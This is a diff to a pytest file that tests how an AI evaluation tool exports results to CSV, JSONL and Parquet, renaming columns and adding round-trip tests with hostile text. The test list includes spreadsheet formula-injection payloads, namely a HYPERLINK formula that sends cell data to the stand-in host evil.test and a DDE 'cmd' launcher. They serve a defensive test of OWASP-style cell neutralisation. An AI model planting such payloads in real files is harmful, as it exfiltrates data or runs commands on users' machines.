@@ -8,6 +8,7 @@ import json
 from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
 
 from multitrust.results import export, load_results
@@ -84,26 +85,26 @@ EXPECTED: dict[str, dict[str, object]] = {
         "task_id": "T.5",
         "output": "Yes, it is.",
         "label": "yes",
-        "value.correct": 1.0,
-        "value.yes": 1.0,
-        "meta.kind": "color",
-        "meta.n": 2,
-        "meta.tags": '["x", "y"]',
+        "value_correct": 1.0,
+        "value_yes": 1.0,
+        "meta_kind": "color",
+        "meta_n": 2,
+        "meta_tags": '["x", "y"]',
         "error": None,
     },
     "b": {
         "output": "No.",
-        "value.correct": 0.0,
-        "value.yes": 0.0,
-        "meta.kind": "shape",
-        "meta.n": 5,
+        "value_correct": 0.0,
+        "value_yes": 0.0,
+        "meta_kind": "shape",
+        "meta_n": 5,
         "error": None,
     },
     "c": {
         "output": None,
-        "value.correct": None,
-        "meta.kind": "color",
-        "meta.n": 7,
+        "value_correct": None,
+        "meta_kind": "color",
+        "meta_n": 7,
         "error": "timeout: no answer within 1s",
         "error_kind": "timeout",
     },
@@ -131,17 +132,36 @@ def _check(rows: list[dict[str, Any]]) -> None:
 def test_load_results_has_value_meta_and_error_columns(db: Path) -> None:
     df = load_results(db, include_errors=True)
     cols = set(df.columns)
-    assert {"value.correct", "value.yes", "meta.kind", "meta.n", "meta.tags"} <= cols
+    assert not [c for c in cols if "." in c]  # plain identifiers
+    assert {
+        "aspect",
+        "sub_aspect",
+        "task_name",
+        "latency_s",
+        "input_tokens",
+        "output_tokens",
+    } <= cols
+    assert str(df["meta_n"].dtype) == "Int64"  # integer meta stays integer
+    a = df.set_index("sample_id").loc["a"]
+    assert (a["aspect"], a["sub_aspect"], a["task_name"]) == (
+        "truthfulness",
+        "T.M",
+        "Text misleading VQA",
+    )
+    assert df.set_index("sample_id").loc["a", "target"] == "true"
+    assert {"value_correct", "value_yes", "meta_kind", "meta_n", "meta_tags"} <= cols
     assert {"error", "error_kind", "output", "prompt", "run_id", "model"} <= cols
-    scored = load_results(db)
-    assert sorted(scored["sample_id"]) == ["a", "b"]  # errors only on request
+    assert sorted(df["sample_id"]) == ["a", "b", "c"]  # errored rows by default, as export
+    scored = load_results(db, include_errors=False)
+    assert sorted(scored["sample_id"]) == ["a", "b"]
+    assert sorted(load_results(db)["sample_id"]) == ["a", "b", "c"]
 
 
 def test_csv_export_keeps_every_column_and_value(db: Path, tmp_path: Path) -> None:
     out = export(db, tmp_path / "out.csv")
     with out.open(newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
-    assert {"value.correct", "value.yes", "meta.kind", "meta.n", "meta.tags", "error"} <= set(
+    assert {"value_correct", "value_yes", "meta_kind", "meta_n", "meta_tags", "error"} <= set(
         rows[0]
     )
     _check(rows)
@@ -151,3 +171,131 @@ def test_jsonl_export_keeps_every_column_and_value(db: Path, tmp_path: Path) -> 
     out = export(db, tmp_path / "out.jsonl")
     rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
     _check(rows)
+
+
+# --------------------------------------------------------------------------- hostile text
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tstarts with a tab",
+    "\rstarts with a CR",
+    "a lone\rCR inside",
+    "a\nline feed",
+    "a\r\nCRLF",
+    "NUL\x00inside",
+    'double "quotes" and, commas',
+    "\u202eRTL override\u202c and \u200bzero\u200cwidth\u200d marks\ufeff",
+    "line\u2028separator\u2029paragraph",
+    "'already quoted",
+    "",
+    "x" * (1024 * 1024),  # a 1 MB answer
+]
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> Path:
+    path = tmp_path / "h.db"
+    with Store(path) as st:
+        st.open_run(
+            "run-h",
+            model="=evil/model",
+            judge=None,
+            profile="corrected",
+            tasks=["T.5"],
+            data={"kind": "synth", "seed": 1},
+            settings={},
+            package_version="0",
+            git_commit=None,
+        )
+        rows = [
+            ResultRow(
+                "run-h",
+                "T.5",
+                f"s{i}\r\n{text[:20]}",
+                "text",
+                None,
+                text,
+                [],
+                text,
+                {"note": text, "n": i, "neg": -i},
+                text,
+                {"correct": float(i % 2)},
+                text[:50],
+                text,
+                "yes_no",
+            )
+            for i, text in enumerate(HOSTILE)
+        ]
+        st.write_batch([], rows)
+    return path
+
+
+def _undo(cell: str) -> str:
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def test_csv_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
+    out = export(hostile_db, tmp_path / "h.csv")
+    limit = csv.field_size_limit(16 * 1024 * 1024)  # the stdlib reader's default is 128 KiB
+    try:
+        with out.open(newline="", encoding="utf-8") as f:
+            rows = list(csv.DictReader(f))
+    finally:
+        csv.field_size_limit(limit)
+    assert len(rows) == len(HOSTILE)  # a CR, LF or NUL never splits a row
+    by_n = {int(r["meta_n"]): r for r in rows}
+    for i, text in enumerate(HOSTILE):
+        r = by_n[i]
+        for col in ("output", "prompt", "target", "explanation", "meta_note"):
+            assert _undo(r[col]) == text, (i, col)
+            if text.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
+                assert r[col] == "'" + text  # neutralised (OWASP)
+        assert _undo(r["sample_id"]) == f"s{i}\r\n{text[:20]}"
+        assert _undo(r["model"]) == "=evil/model" and r["model"].startswith("'")
+        assert int(r["meta_neg"]) == -i  # numbers are not text: never prefixed
+    # every cell is quoted, and pandas reads the same rows
+    raw = out.read_text(encoding="utf-8")
+    assert raw.startswith('"run_id","model"')
+    back = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert len(back) == len(HOSTILE)
+    assert sorted(_undo(v) for v in back["output"]) == sorted(HOSTILE)
+
+
+def test_jsonl_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
+    out = export(hostile_db, tmp_path / "h.jsonl")
+    raw = out.read_bytes()
+    assert raw.isascii()  # no U+2028 or other breaks a line splitter could cut at
+    lines = raw.decode().splitlines()
+    assert len(lines) == len(HOSTILE)
+    recs = sorted((json.loads(x) for x in lines), key=lambda r: r["meta_n"])
+    for i, text in enumerate(HOSTILE):
+        assert recs[i]["output"] == text and recs[i]["meta_note"] == text
+        assert recs[i]["target"] == text and recs[i]["model"] == "=evil/model"
+        assert recs[i]["meta_n"] == i and isinstance(recs[i]["meta_n"], int)
+
+
+def test_parquet_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
+    out = export(hostile_db, tmp_path / "h.parquet")
+    back = pd.read_parquet(out).sort_values("meta_n")
+    assert list(back["output"]) == HOSTILE
+    assert list(back["meta_note"]) == HOSTILE
+    assert list(back["meta_n"]) == list(range(len(HOSTILE)))
+
+
+def test_target_none_is_missing_not_the_string_null(db: Path, tmp_path: Path) -> None:
+    with Store(db) as st:
+        st.write_batch(
+            [],
+            [
+                ResultRow(
+                    "run1", "T.5", "d", "text", None, "p", [], None, {}, "x", None, None, None, None
+                )
+            ],
+        )
+    out = export(db, tmp_path / "t.jsonl")
+    recs = {r["sample_id"]: r for r in map(json.loads, out.read_text().splitlines())}
+    assert recs["d"]["target"] is None
+    assert recs["a"]["target"] == "true"
